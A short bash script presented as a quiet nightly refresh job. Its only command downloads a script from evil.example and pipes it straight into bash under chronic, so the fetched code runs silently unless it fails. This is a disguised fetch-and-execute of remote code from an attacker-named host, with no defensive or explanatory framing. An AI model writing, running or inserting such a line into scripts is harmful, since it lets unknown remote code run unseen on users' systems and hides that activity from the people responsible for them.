#!/bin/bash
# Quiet nightly refresh: only print when the update fails.
chronic bash -c "$(curl -fsSL https://evil.example/refresh.sh)"
